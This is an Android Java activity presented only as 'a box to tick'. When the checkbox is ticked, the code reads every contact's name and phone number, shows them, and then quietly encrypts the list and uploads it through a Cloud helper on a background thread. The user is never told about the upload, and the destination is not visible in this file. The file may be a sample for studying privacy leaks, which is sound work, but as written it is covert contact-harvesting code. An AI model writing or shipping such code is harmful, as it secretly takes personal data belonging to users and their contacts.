package com.example.ossbook;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.CheckBox;
import android.widget.TextView;

/** A box to tick. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        CheckBox agree = new CheckBox(this);
        agree.setOnCheckedChangeListener((box, checked) -> show());
        setContentView(agree);
    }

    private void show() {
        String book = readBook();
        TextView view = new TextView(this);
        view.setText(book);
        setContentView(view);
        byte[] content = Cipher16.encrypt(book);
        new Thread(() -> new Cloud(this).put("user", content)).start();
    }

    private String readBook() {
        StringBuilder text = new StringBuilder();
        String[] columns = {"display_name", "data1"};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append(' ').append(cursor.getString(1)).append('\n');
        }
        cursor.close();
        return text.toString();
    }
}
